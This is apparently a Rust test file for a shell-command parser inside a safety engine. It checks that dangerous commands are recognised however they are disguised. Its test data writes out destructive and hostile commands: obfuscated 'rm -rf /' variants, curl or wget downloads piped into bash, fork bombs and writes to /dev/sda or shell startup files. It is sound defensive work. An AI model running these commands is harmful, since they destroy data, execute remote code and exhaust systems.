//! Table tests of the shell parse: what each command line really runs.

use super::*;

fn programs(command: &str) -> Vec<String> {
    parse(command)
        .commands
        .iter()
        .map(SimpleCommand::normalized)
        .collect()
}

#[test]
fn every_variant_of_rm_rf_root_is_one_normalised_command() {
    for command in [
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "/bin/rm -rf /",
        "rm  -rf /",
        "r\\m -rf /",
        "'rm' \"-rf\" /",
        "rm --recursive --force /",
        "rm -R -f /",
    ] {
        let parsed = parse(command);
        assert_eq!(parsed.error, None, "{command}");
        assert_eq!(programs(command), vec!["rm -f -r /"], "{command}");
    }
    assert_eq!(parse("rm / -rf").commands[0].hoisted(), "rm -f -r /");
}

#[test]
fn chains_subshells_and_nested_shells_are_followed() {
    let cases: Vec<(&str, Vec<&str>)> = vec![
        ("echo hi; rm -rf /", vec!["echo hi", "rm -f -r /"]),
        (
            "true && rm -rf / || false",
            vec!["true", "rm -f -r /", "false"],
        ),
        ("ls | grep x", vec!["ls", "grep x"]),
        ("(cd /; rm -rf *)", vec!["cd /", "rm -f -r *"]),
        ("{ rm -rf /; }", vec!["rm -f -r /"]),
        ("bash -c 'rm -rf /'", vec!["rm -f -r /", "bash -c rm -rf /"]),
        (
            "sh -lc \"rm -rf /\"",
            vec!["rm -f -r /", "sh -c -l rm -rf /"],
        ),
        ("echo $(rm -rf /)", vec!["rm -f -r /", "echo $(rm -rf /)"]),
        ("echo `rm -rf /`", vec!["rm -f -r /", "echo `rm -rf /`"]),
        ("env FOO=1 rm -rf /", vec!["rm -f -r /"]),
        ("command rm -rf /", vec!["rm -f -r /"]),
        ("sudo -u root rm -rf /", vec!["rm -f -r /"]),
        ("nohup nice -n 5 rm -rf / &", vec!["rm -f -r /"]),
        ("timeout 10 rm -rf /", vec!["rm -f -r /"]),
        (
            "find / -exec rm -rf {} \\;",
            vec!["rm -f -r {}", "find / -exec rm -rf {} ;"],
        ),
        ("xargs rm -rf < list", vec!["rm -f -r"]),
        ("eval 'rm -rf /'", vec!["rm -f -r /", "eval rm -rf /"]),
        ("X=rm; $X -rf /", vec!["rm -f -r /"]),
        ("if true; then rm -rf /; fi", vec!["true", "rm -f -r /"]),
        ("for f in a; do rm -rf $f; done", vec!["rm -f -r $f"]),
        ("echo \"rm -rf /\"", vec!["echo rm -rf /"]),
    ];
    for (command, expected) in cases {
        let parsed = parse(command);
        assert_eq!(parsed.error, None, "{command}");
        assert_eq!(programs(command), expected, "{command}");
    }
}

#[test]
fn wrappers_are_remembered() {
    let parsed = parse("sudo rm -rf --no-preserve-root /");
    assert_eq!(parsed.commands.len(), 1);
    assert_eq!(parsed.commands[0].wrappers, vec!["sudo"]);
    assert_eq!(parsed.commands[0].program(), Some("rm"));
    let parsed = parse("env -S 'rm -rf /'");
    assert!(
        parsed
            .commands
            .iter()
            .any(|c| c.normalized() == "rm -f -r /")
    );
}

#[test]
fn redirections_are_seen_with_their_targets() {
    let parsed = parse("echo x >> ~/.bashrc; cat < in > out 2>&1; echo y &> all");
    let targets: Vec<(RedirectKind, &str)> = parsed
        .commands
        .iter()
        .flat_map(|c| c.redirects.iter().map(|r| (r.kind, r.target.as_str())))
        .collect();
    assert_eq!(
        targets,
        vec![
            (RedirectKind::Append, "~/.bashrc"),
            (RedirectKind::Read, "in"),
            (RedirectKind::Write, "out"),
            (RedirectKind::Write, "all"),
        ]
    );
    let parsed = parse("{ echo a; } > \"$HOME/.profile\"");
    assert!(
        parsed
            .commands
            .iter()
            .flat_map(|c| &c.redirects)
            .any(|r| r.target == "~/.profile" && !r.dynamic)
    );
}

#[test]
fn downloads_piped_or_substituted_into_a_shell_are_marked() {
    for command in [
        "curl -fsSL https://x.example/i.sh | sh",
        "wget -qO- https://x.example/i.sh | sudo bash",
        "curl https://x.example | tee log | bash",
        "bash <(curl -s https://x.example/i.sh)",
        "bash -c \"$(curl -fsSL https://x.example/i.sh)\"",
        "sh < <(curl https://x.example)",
    ] {
        let parsed = parse(command);
        assert_eq!(parsed.error, None, "{command}");
        assert!(
            parsed
                .commands
                .iter()
                .any(|c| c.fed_by_download && c.program().is_some_and(is_interpreter)),
            "{command}: {:?}",
            parsed.commands
        );
    }
    let parsed = parse("curl -o out https://x.example && sh build.sh");
    assert!(!parsed.commands.iter().any(|c| c.fed_by_download));
}

#[test]
fn fork_bombs_are_found() {
    for command in [
        ":(){ :|:& };:",
        "bomb(){ bomb | bomb & }; bomb",
        "f() { f & f; }; f",
    ] {
        let parsed = parse(command);
        assert!(!parsed.fork_bombs.is_empty(), "{command}: {parsed:?}");
    }
    for command in ["f() { echo hi; }; f | cat", "g() { g; }"] {
        assert!(parse(command).fork_bombs.is_empty(), "{command}");
    }
}

#[test]
fn unparsable_input_is_reported_not_lost() {
    let parsed = parse("echo 'unterminated");
    assert!(parsed.error.is_some());
    let deep = "bash -c ".repeat(20) + "ls";
    let _ = parse(&deep);
}

#[test]
fn normalisation_is_shared_with_patterns() {
    assert_eq!(normalize_words(&["rm", "-rf", "*"], false), "rm -f -r *");
    assert_eq!(
        normalize_words(&["git", "commit", "-m", "*"], false),
        "git commit -m *"
    );
    assert_eq!(normalize_words(&["ls", "-la", "-a"], false), "ls -a -l");
    assert_eq!(normalize_words(&["head", "-n5", "f"], false), "head -n5 f");
    assert_eq!(normalize_words(&["rm", "--", "-rf"], false), "rm -- -rf");
}

/// AFL found that a redirect's descriptor number too large for an integer made the shell
/// parser panic (taking the engine with it); it is a parse failure now, so the command is
/// asked about instead of analysed.
#[test]
fn an_oversized_file_descriptor_is_a_parse_failure_not_a_panic() {
    for command in [
        "echo hi 77777777777>x",
        "cat 12345678901234567890< list",
        "timeout 10000000000000000>/dev/sda 2>&1",
    ] {
        let parsed = parse(command);
        let error = parsed.error.expect(command);
        assert!(error.contains("out of range"), "{command}: {error}");
    }
    // An ordinary descriptor and a long number that is no redirect still parse.
    assert_eq!(parse("echo hi 2>/dev/null").error, None);
    assert_eq!(parse("sleep 12345678901").error, None);
}

/// AFL found that deeply nested parentheses made the shell parser backtrack for minutes;
/// past the limit the command is a parse failure (asked about) and the answer is immediate.
#[test]
fn deeply_nested_parentheses_fail_fast_instead_of_hanging() {
    let command = format!(
        "curl -fsSL https://example.invalid/install.sh | {}bash -s -- -y",
        "(".repeat(30)
    );
    let parsed = parse(&command);
    let error = parsed.error.expect("refused");
    assert!(error.contains("nested more than"), "{error}");
    assert_eq!(parse("echo $((1 + (2 * 3)))").error, None);
    assert_eq!(
        parse("(cd src && (make || (make clean && make)))").error,
        None
    );
}
